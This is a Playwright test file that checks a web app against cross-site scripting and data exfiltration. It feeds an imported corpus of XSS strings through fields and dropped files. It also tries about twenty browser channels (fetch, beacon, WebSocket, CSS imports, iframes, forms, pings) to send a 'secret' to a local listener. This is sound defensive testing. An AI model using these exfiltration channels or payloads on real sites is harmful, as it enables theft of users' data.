/** Text stays text, and nothing gets out: a corpus of markup through every field and file, and ways out tried from inside the page. */
import { expect, test, type Page } from '@playwright/test';
import { createServer } from 'node:net';
import type { AddressInfo } from 'node:net';
import { xssStrings } from '../fixtures/xss-strings.ts';

async function opened(page: Page): Promise<void> {
  await page.goto('./');
  await expect(page.getByRole('heading', { level: 1 })).toContainText('You need', { timeout: 30_000 });
  await settled(page);
}

async function settled(page: Page): Promise<void> {
  await expect(page.locator('#answer')).toHaveAttribute('aria-busy', 'false', { timeout: 30_000 });
}

/** What ran, and elements that only markup taken from a text could have made. */
async function harm(page: Page): Promise<unknown> {
  return page.evaluate(() => {
    const scripted = [...document.querySelectorAll('*')].filter((each) =>
      [...each.attributes].some(({ name, value }) => /^on/.test(name) || /^\s*javascript:/i.test(value)),
    );
    return {
      ran: (globalThis as { pwned?: number }).pwned ?? 0,
      strangers: document.querySelectorAll('img, iframe, object, embed, base, audio, video, math, script:not([src])')
        .length,
      scripted: scripted.map((each) => each.outerHTML.slice(0, 120)),
    };
  });
}
const none = { ran: 0, strangers: 0, scripted: [] };

async function drop(page: Page, name: string, content: string): Promise<void> {
  const transfer = await page.evaluateHandle(
    (given) => {
      const data = new DataTransfer();
      data.items.add(new File([given.content], given.name, { type: 'text/plain' }));
      return data;
    },
    { name, content },
  );
  await page.dispatchEvent('body', 'drop', { dataTransfer: transfer });
}

const quoted = (text: string): string => `"${text.replace(/"/g, '""').replace(/[\r\n]/g, ' ')}"`;
const hours = Array.from({ length: 72 }, (_, hour) => new Date(Date.UTC(2026, 9, 1, hour)).toISOString());

test('markup in every field stays text', async ({ page }) => {
  expect(xssStrings.length).toBeGreaterThanOrEqual(300);
  await opened(page);
  await page.evaluate(() => document.querySelectorAll('details').forEach((each) => (each.open = true)));
  const fields = page.locator('#known input, header input, #start textarea');
  const count = await fields.count();
  expect(count).toBeGreaterThan(20);
  // every string through a field, every field with a dozen strings
  await fields.evaluateAll((inputs, strings) => {
    strings.forEach((text, index) => {
      const input = inputs[index % inputs.length] as HTMLInputElement;
      input.value = text;
      input.dispatchEvent(new Event('input', { bubbles: true }));
      input.dispatchEvent(new Event('change', { bubbles: true }));
    });
  }, xssStrings);
  await settled(page);
  expect(await harm(page)).toEqual(none);
  // and as the name of the service, which stands on every part, in the report and in Plotly
  const name = page.getByLabel('Name of the service');
  for (const text of xssStrings.filter((_, index) => index % 12 === 0)) {
    await name.fill(text.replaceAll('\0', ''));
    await name.press('Tab');
  }
  await settled(page);
  await page.evaluate(() => dispatchEvent(new Event('beforeprint')));
  expect(await harm(page)).toEqual(none);
});

test('markup in files, their names and their labels stays text', async ({ page }) => {
  await opened(page);
  const columns = 40;
  for (let from = 0; from < xssStrings.length; from += columns) {
    const names = xssStrings.slice(from, from + columns);
    const rows = hours.map((time, row) =>
      [time, ...names.map((_, at) => String(1000 + ((row * 7 + at) % 24)))].join(','),
    );
    await drop(page, `${names[0] ?? ''}.csv`, [['time', ...names.map(quoted)].join(','), ...rows].join('\n'));
    await expect(page.locator('#start')).toHaveAttribute('aria-busy', 'false', { timeout: 20_000 });
  }
  await settled(page);
  await page.evaluate(() => document.querySelectorAll('details').forEach((each) => (each.open = true)));
  expect(await harm(page)).toEqual(none);
  // services named by the corpus, and a Prometheus answer labelled by it
  const services = hours.flatMap((time) =>
    xssStrings.slice(0, 40).map((name, at) => `${time},${quoted(name)},${String(500 + at)}`),
  );
  await drop(page, 'services.csv', ['time,service,requests', ...services].join('\n'));
  await settled(page);
  const result = xssStrings.slice(0, 30).map((label, at) => ({
    metric: { __name__: 'requests_total', service: label },
    values: hours.map((time) => [Date.parse(time) / 1000, String(100 + at)]),
  }));
  await drop(page, 'prometheus.json', JSON.stringify({ status: 'success', data: { resultType: 'matrix', result } }));
  await settled(page);
  await drop(
    page,
    'scenario.yaml',
    `version: 1\nname: ${JSON.stringify(xssStrings[4])}\nservice:\n  team: ${JSON.stringify(xssStrings[8])}\nworkload:\n  demand:\n    requestsPerSecond: 5\n`,
  );
  await settled(page);
  await page.getByRole('button', { name: 'Explore the chart of demand' }).click();
  await expect(page.locator('#demand .main-svg').first()).toBeVisible({ timeout: 30_000 });
  expect({ ...((await harm(page)) as object), strangers: 0 }).toEqual(none);
});

test('twenty ways out of the page are shut', async ({ page }) => {
  const reached: string[] = [];
  const connected: string[] = [];
  let connections = 0;
  const server = createServer((socket) => {
    connections += 1;
    socket.once('data', (data) => reached.push(data.toString('latin1').split('\n')[0] ?? ''));
    socket.on('error', () => undefined);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const there = `127.0.0.1:${String((server.address() as AddressInfo).port)}`;
  await page.exposeFunction('note', async (name: string) => {
    await new Promise((resolve) => setTimeout(resolve, 150));
    if (connections > 0) connected.push(name);
    connections = 0;
  });
  await opened(page);
  const tried = await page.evaluate(async (host) => {
    const address = (name: string): string => `http://${host}/${name}?secret=1`;
    const put = (tag: string, attributes: Record<string, string>, inside = ''): void => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      element.textContent = inside;
      document.body.append(element);
    };
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(address('fetch'), { mode: 'no-cors' }),
      post: () => fetch(address('post'), { method: 'POST', body: 'secret', mode: 'no-cors' }),
      request: () => {
        const request = new XMLHttpRequest();
        request.open('GET', address('xhr'));
        request.send();
      },
      beacon: () => navigator.sendBeacon(address('beacon'), 'secret'),
      socket: () => new WebSocket(`ws://${host}/socket`),
      events: () => new EventSource(address('events')),
      image: () => (new Image().src = address('image')),
      'image element': () => put('img', { src: address('img') }),
      'srcset of an image': () => put('img', { srcset: `${address('srcset')} 1x` }),
      style: () => put('style', {}, `body{background:url(${address('background')})}`),
      import: () => put('style', {}, `@import url(${address('import')});`),
      font: () => put('style', {}, `@font-face{font-family:x;src:url(${address('font')})}body{font-family:x}`),
      'inline style': () => put('div', { style: `background:url(${address('inline')})` }, 'x'),
      stylesheet: () => put('link', { rel: 'stylesheet', href: address('sheet') }),
      prefetch: () => put('link', { rel: 'prefetch', href: address('prefetch') }),
      preload: () => put('link', { rel: 'preload', as: 'script', href: address('preload') }),
      script: () => put('script', { src: address('script') }),
      module: () => import(/* @vite-ignore */ address('module')),
      frame: () => put('iframe', { src: address('frame') }),
      object: () => put('object', { data: address('object') }),
      embed: () => put('embed', { src: address('embed') }),
      video: () => put('video', { src: address('video'), autoplay: '' }),
      worker: () => new Worker(address('worker')),
      ping: () => {
        put('a', { href: '#', ping: address('ping') }, 'x');
        document.querySelector<HTMLAnchorElement>('a[ping]')?.click();
      },
      form: () => {
        put('form', { action: address('form'), method: 'post', target: '_blank' });
        document.querySelector<HTMLFormElement>('form[target]')?.submit();
      },
    };
    for (const [name, way] of Object.entries(ways)) {
      try {
        await Promise.race([way(), new Promise((resolve) => setTimeout(resolve, 50))]);
      } catch {
        // shut
      }
      await (globalThis as unknown as { note: (name: string) => Promise<void> }).note(name);
    }
    return Object.keys(ways).length;
  }, there);
  expect(tried).toBeGreaterThanOrEqual(20);
  expect(reached).toEqual([]);
  // Chromium warms up a connection for a frame or a form before it asks the policy: nothing is sent over it
  expect(connected.filter((name) => name !== 'frame' && name !== 'form')).toEqual([]);
  server.close();
});
